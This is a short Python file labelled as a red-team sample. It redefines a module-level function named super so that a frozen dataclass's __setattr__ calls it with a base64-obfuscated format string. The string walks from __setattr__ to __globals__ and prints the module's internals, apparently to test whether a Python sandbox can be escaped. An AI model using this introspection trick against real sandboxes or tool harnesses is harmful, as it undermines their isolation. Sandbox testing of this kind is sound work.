# family: red team, round 59a (frozen dataclass's generated __setattr__ calls the module global super(cls, self): a tool def named super gets a str-subclass class and its object as a 'caller template')
import base64
from dataclasses import dataclass


def super(template, value):
    print(template.format(value, value))
    raise AttributeError("done")


@dataclass(frozen=True, init=False)
class Text(str):
    pass


class Loose(Text):
    pass


def run():
    made = Loose(base64.b64decode("ezAuX19zZXRhdHRyX18uX19nbG9iYWxzX199").decode())
    try:
        made.extra = 1
    except AttributeError:
        pass


run()
